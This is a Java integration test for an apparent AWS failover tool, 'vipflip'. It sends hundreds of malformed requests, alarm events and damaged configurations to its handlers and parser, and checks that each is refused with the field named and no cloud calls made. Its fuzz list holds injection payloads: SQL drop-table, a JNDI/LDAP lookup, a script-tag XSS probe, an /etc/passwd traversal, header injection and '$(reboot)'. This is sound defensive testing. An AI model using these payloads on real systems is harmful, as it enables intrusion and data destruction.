package io.vipflip.functions;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.vipflip.config.ConfigException;
import io.vipflip.config.ConfigParser;
import io.vipflip.demo.CallCounter;
import io.vipflip.local.harness.FakeContext;
import io.vipflip.local.harness.LocalWorld;
import io.vipflip.runtime.Engine;
import io.vipflip.runtime.InvalidRequestException;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.IntStream;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Generated bad input — broken JSON, wrong types, huge strings, unknown groups/nodes/actions, missing reasons,
 * injection-like strings, random bytes — through the manual and alarm handlers and the configuration parser. Each
 * is rejected naming the field, and makes no call at all: the EC2 endpoint's call log and an SDK interceptor on
 * vipflip's DynamoDB client are read before and after every single case.
 */
class BadInputIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> NASTY = List.of("'; DROP TABLE vipflip; --", "${jndi:ldap://x.invalid/a}",
            "<script>alert(1)</script>", "../../etc/passwd", "haproxy-b\nInjected: header", "\u202Ehaproxy-b",
            "%00", "{\"action\":\"failover\"}", "$(reboot)", "x".repeat(300), "web\u0000", "ｗｅｂ");
    /** Counts every API call vipflip's DynamoDB client starts (before the first attempt, so failed ones too). */
    private static final CallCounter DYNAMO_CALLS = new CallCounter();
    private static LocalWorld world;
    private static Engine engine;

    @BeforeAll
    static void start() {
        world = LocalWorld.start(LocalWorld.Settings.demo());
        world.reset();
        engine = world.engine(Clock.systemUTC(), world.clients().dynamo(world.dynamo().endpoint(), DYNAMO_CALLS));
    }

    @AfterAll
    static void stop() {
        world.close();
    }

    record Case(String description, byte[] body, String field) {
    }

    @Test
    void hundredsOfBadManualRequests_areRefusedNamingTheField_andChangeNothing() throws Exception {
        List<Case> cases = manualCases(new Random(20261125));
        assertTrue(cases.size() >= 300, "generated " + cases.size());
        ManualFailoverHandler handler = new ManualFailoverHandler(engine);
        for (Case c : cases) {
            CallCounts before = CallCounts.now();
            InvalidRequestException error = assertThrows(InvalidRequestException.class, () -> handler.handleRequest(
                    new ByteArrayInputStream(c.body()), new ByteArrayOutputStream(), context()), c.description());
            assertEquals(before, CallCounts.now(), c.description() + " made calls");
            assertEquals(c.field(), error.field(), c.description() + ": " + error.getMessage());
            assertFalse(error.getMessage().isBlank());
            assertTrue(error.getMessage().length() < 400, "error messages stay short: " + c.description());
        }
        assertRoutesUnchanged();
        assertTheCountersSeeAValidRequest(handler, "{\"action\":\"status\",\"group\":\"web\"}");
    }

    @Test
    void hundredsOfBadAutomationEvents_areRefusedNamingTheField_andChangeNothing() throws Exception {
        List<Case> cases = eventCases(new Random(7));
        assertTrue(cases.size() >= 150, "generated " + cases.size());
        AlarmFailoverHandler handler = new AlarmFailoverHandler(engine);
        for (Case c : cases) {
            CallCounts before = CallCounts.now();
            InvalidRequestException error = assertThrows(InvalidRequestException.class, () -> handler.handleRequest(
                    new ByteArrayInputStream(c.body()), new ByteArrayOutputStream(), context()), c.description());
            assertEquals(before, CallCounts.now(), c.description() + " made calls");
            assertEquals(c.field(), error.field(), c.description() + ": " + error.getMessage());
        }
        assertRoutesUnchanged();
        // a standby's status-check alarm: the node is confirmed by probes, the routes read, nothing changed
        assertTheCountersSeeAValidRequest(handler, "{\"source\":\"aws.cloudwatch\",\"alarmData\":{\"alarmName\":"
                + "\"vipflip-web-haproxy-b-status-check\",\"state\":{\"value\":\"ALARM\"},\"configuration\":"
                + "{\"description\":\"EC2 status check of haproxy-b (vipflip:web/haproxy-b)\"}}}");
    }

    @Test
    void hundredsOfBadConfigurations_areRefusedWithTheirJsonPath() {
        // GIVEN 120 documents, each the demo configuration with one of 10 kinds of damage
        Random random = new Random(99);
        String valid = world.configJson();
        Map<Integer, Integer> namedByKind = new TreeMap<>();
        for (int i = 0; i < 120; i++) {
            BrokenConfig broken = mutateConfig(valid, random, i);

            // WHEN parsed, THEN refused with an error that names the damaged field's JSON path
            ConfigException error = assertThrows(ConfigException.class, () -> new ConfigParser().parse(broken.json()),
                    "mutation " + i + ": " + broken.json());
            assertTrue(error.errors().stream().allMatch(e -> e.contains(": ")), error.errors().toString());
            if (error.errors().stream().anyMatch(e -> e.startsWith(broken.path() + ": "))) {
                namedByKind.merge(i % 10, 1, Integer::sum);
            }
        }
        // every kind of damage was produced and named 12 times out of 12
        Map<Integer, Integer> all = new TreeMap<>();
        IntStream.range(0, 10).forEach(kind -> all.put(kind, 12));
        assertEquals(all, namedByKind, "damage kind -> documents whose error named the damaged path");
    }

    /** EC2 calls the endpoint logged and DynamoDB calls vipflip's client started, so far. */
    record CallCounts(int ec2, long dynamo) {
        static CallCounts now() {
            return new CallCounts(world.ec2().calls().all().size(), DYNAMO_CALLS.count());
        }
    }

    private static void assertRoutesUnchanged() {
        world.routes().values().forEach(t -> assertEquals(LocalWorld.ENIS.get("haproxy-a"), t));
    }

    /** The zero-call checks above could not pass because the counters are blind: a valid request is counted. */
    private static void assertTheCountersSeeAValidRequest(com.amazonaws.services.lambda.runtime.RequestStreamHandler handler,
                                                          String valid) throws Exception {
        CallCounts before = CallCounts.now();
        handler.handleRequest(new ByteArrayInputStream(valid.getBytes(StandardCharsets.UTF_8)), new ByteArrayOutputStream(),
                context());
        CallCounts after = CallCounts.now();
        assertTrue(after.ec2() > before.ec2(), "a valid request reaches EC2: " + before + " -> " + after);
        assertTrue(after.dynamo() > before.dynamo(), "a valid request reaches DynamoDB: " + before + " -> " + after);
    }

    private static FakeContext context() {
        return new FakeContext("bad-input", Duration.ofSeconds(30), Clock.systemUTC());
    }

    static List<Case> manualCases(Random random) throws Exception {
        List<Case> cases = new ArrayList<>();
        String[] actions = {"status", "failover", "failback", "reconcile", "pause", "resume"};
        for (String action : actions) {
            for (String nasty : NASTY) {
                cases.add(request("nasty group for " + action, "group", r -> r.put("action", action).put("group", nasty)
                        .put("reason", "r")));
                cases.add(request("nasty action", "action", r -> r.put("action", nasty).put("group", "web")));
                cases.add(request("unknown field " + action, shownAsField(nasty), r -> r.put("action", action)
                        .put("group", "web").put("reason", "r").put(nasty, 1)));
            }
            for (Object wrong : List.of(1, true, List.of("web"), java.util.Map.of("a", 1))) {
                cases.add(request("group of type " + wrong.getClass().getSimpleName(), "group",
                        r -> r.put("action", action).set("group", JSON.valueToTree(wrong))));
                cases.add(request("dryRun of type " + wrong.getClass().getSimpleName(), "dryRun",
                        r -> base(r, action).set("dryRun", JSON.valueToTree(wrong instanceof Boolean ? "true" : wrong))));
            }
            cases.add(request("missing group " + action, "group", r -> r.put("action", action)));
            cases.add(request("unknown group " + action, "group", r -> r.put("action", action).put("group", "api")));
            if (!action.equals("failover")) {
                cases.add(request("force outside failover " + action, "force", r -> base(r, action).put("force", true)));
                cases.add(request("target outside failover " + action, "target",
                        r -> base(r, action).put("target", "haproxy-b")));
            }
        }
        for (String nasty : NASTY) {
            cases.add(request("nasty target", "target", r -> r.put("action", "failover").put("group", "web")
                    .put("target", nasty).put("reason", "r")));
            cases.add(request("failover without reason, nasty target", "target", r -> r.put("action", "failover")
                    .put("group", "web").put("target", nasty)));
        }
        cases.add(request("missing reason", "reason", r -> r.put("action", "failover").put("group", "web").put("target", "haproxy-b")));
        cases.add(request("blank reason", "reason", r -> r.put("action", "pause").put("group", "web").put("reason", "  ")));
        cases.add(request("huge reason", "reason", r -> r.put("action", "pause").put("group", "web").put("reason", "y".repeat(5000))));
        cases.add(new Case("huge body", ("{\"action\":\"status\",\"group\":\"web\",\"pad\":\"" + "z".repeat(100_000) + "\"}")
                .getBytes(StandardCharsets.UTF_8), "request"));
        byte[] valid = "{\"action\":\"failover\",\"group\":\"web\",\"target\":\"haproxy-b\",\"reason\":\"drill\"}"
                .getBytes(StandardCharsets.UTF_8);
        for (int cut = 0; cut < valid.length - 1; cut++) {
            cases.add(new Case("truncated at " + cut, java.util.Arrays.copyOf(valid, cut), "request"));
        }
        for (int i = 0; i < 60; i++) {
            byte[] garbage = new byte[1 + random.nextInt(200)];
            random.nextBytes(garbage);
            cases.add(new Case("random bytes " + i, garbage, "request"));
        }
        for (String literal : List.of("null", "[]", "42", "\"status\"", "true", "[{\"action\":\"status\"}]")) {
            cases.add(new Case("not an object: " + literal, literal.getBytes(StandardCharsets.UTF_8), "request"));
        }
        cases.add(new Case("empty object", "{}".getBytes(StandardCharsets.UTF_8), "action"));
        return cases;
    }

    static List<Case> eventCases(Random random) throws Exception {
        List<Case> cases = new ArrayList<>();
        for (String nasty : NASTY) {
            cases.add(new Case("unknown source", json(r -> r.put("source", nasty)), "source"));
            cases.add(new Case("instance not a node", json(r -> r.put("source", "aws.ec2")
                    .put("detail-type", "EC2 Instance State-change Notification")
                    .set("detail", JSON.createObjectNode().put("instance-id", nasty).put("state", "stopped"))),
                    "detail.instance-id"));
            cases.add(new Case("alarm naming no node", json(r -> r.put("source", "aws.cloudwatch")
                    .set("alarmData", JSON.createObjectNode().put("alarmName", nasty)
                            .set("state", JSON.createObjectNode().put("value", "ALARM")))), "alarmData"));
        }
        for (Object wrong : List.of(1, true, List.of("x"), java.util.Map.of("a", 1))) {
            cases.add(new Case("alarm name of type " + wrong.getClass().getSimpleName(), json(r -> r.put("source", "aws.cloudwatch")
                    .set("alarmData", JSON.createObjectNode().set("alarmName", JSON.valueToTree(wrong)))),
                    "alarmData.alarmName"));
            cases.add(new Case("instance id of type " + wrong.getClass().getSimpleName(), json(r -> r.put("source", "aws.ec2")
                    .put("detail-type", "EC2 Instance State-change Notification")
                    .set("detail", JSON.createObjectNode().set("instance-id", JSON.valueToTree(wrong)))),
                    "detail.instance-id"));
        }
        cases.add(new Case("alarm without state", json(r -> r.put("source", "aws.cloudwatch")
                .set("alarmData", JSON.createObjectNode().put("alarmName", "x"))), "alarmData.state.value"));
        cases.add(new Case("no source", json(r -> r.put("detail-type", "Scheduled Event")), "source"));
        byte[] sample = ("{\"source\":\"aws.ec2\",\"detail-type\":\"EC2 Instance State-change Notification\","
                + "\"detail\":{\"instance-id\":\"i-0aaaaaaaaaaaaaaa1\",\"state\":\"stopped\"}}").getBytes(StandardCharsets.UTF_8);
        for (int cut = 0; cut < sample.length - 1; cut++) {
            cases.add(new Case("truncated event at " + cut, java.util.Arrays.copyOf(sample, cut), "event"));
        }
        for (int i = 0; i < 40; i++) {
            byte[] garbage = new byte[1 + random.nextInt(300)];
            random.nextBytes(garbage);
            cases.add(new Case("random event bytes " + i, garbage, "event"));
        }
        cases.add(new Case("huge event", ("{\"source\":\"" + "s".repeat(200_000) + "\"}").getBytes(StandardCharsets.UTF_8),
                "event"));
        return cases;
    }

    /** A damaged configuration document and the JSON path of the damaged field. */
    record BrokenConfig(String json, String path) {
    }

    private static BrokenConfig mutateConfig(String valid, Random random, int i) {
        try {
            ObjectNode doc = (ObjectNode) JSON.readTree(valid);
            ObjectNode group = (ObjectNode) doc.get("groups").get(0);
            int n = random.nextInt(2);
            ObjectNode node = (ObjectNode) group.get("nodes").get(n);
            String nodePath = "groups[0].nodes[" + n + "].";
            String nasty = NASTY.get(i % NASTY.size());
            if (i % 10 == 9) {
                return new BrokenConfig(valid.substring(0, random.nextInt(valid.length() - 1)), "document");
            }
            String path = switch (i % 10) {
                case 0 -> { group.put("name", nasty); yield "groups[0].name"; }
                case 1 -> { node.put("instanceId", nasty); yield nodePath + "instanceId"; }
                case 2 -> { node.put("eniId", nasty); yield nodePath + "eniId"; }
                case 3 -> { group.putArray("vips").add(nasty); yield "groups[0].vips[0]"; }
                case 4 -> {
                    ((ObjectNode) group.get("probe")).putArray("ports")
                            .add(random.nextBoolean() ? -random.nextInt(9999) : 65536 + random.nextInt(9999));
                    yield "groups[0].probe.ports[0]";
                }
                case 5 -> { ((ObjectNode) group.get("probe")).put("timeoutMillis", -random.nextInt(1000)); yield "groups[0].probe.timeoutMillis"; }
                case 6 -> { group.put(nasty, 1); yield "groups[0]." + nasty; }
                case 7 -> { node.put("probeAddress", nasty); yield nodePath + "probeAddress"; }
                case 8 -> { ((ObjectNode) group.get("probe")).put("fall", -random.nextInt(5)); yield "groups[0].probe.fall"; }
                default -> throw new IllegalArgumentException("kind " + i % 10);
            };
            return new BrokenConfig(JSON.writeValueAsString(doc), path);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** How an error names a field the request made up: control characters shown as '?', cut after 40. */
    private static String shownAsField(String name) {
        String printable = name.replaceAll("\\p{Cntrl}", "?");
        return printable.length() <= 40 ? printable : printable.substring(0, 40) + "…";
    }

    /** A valid request for the action, to break one field of. */
    private static ObjectNode base(ObjectNode request, String action) {
        request.put("action", action).put("group", "web").put("reason", "r");
        if (action.equals("failover")) {
            request.put("target", "haproxy-b");
        }
        return request;
    }

    interface Edit {
        void apply(ObjectNode request);
    }

    private static Case request(String description, String field, Edit edit) {
        return new Case(description, json(edit), field);
    }

    private static byte[] json(Edit edit) {
        ObjectNode request = JSON.createObjectNode();
        edit.apply(request);
        try {
            return JSON.writeValueAsBytes(request);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
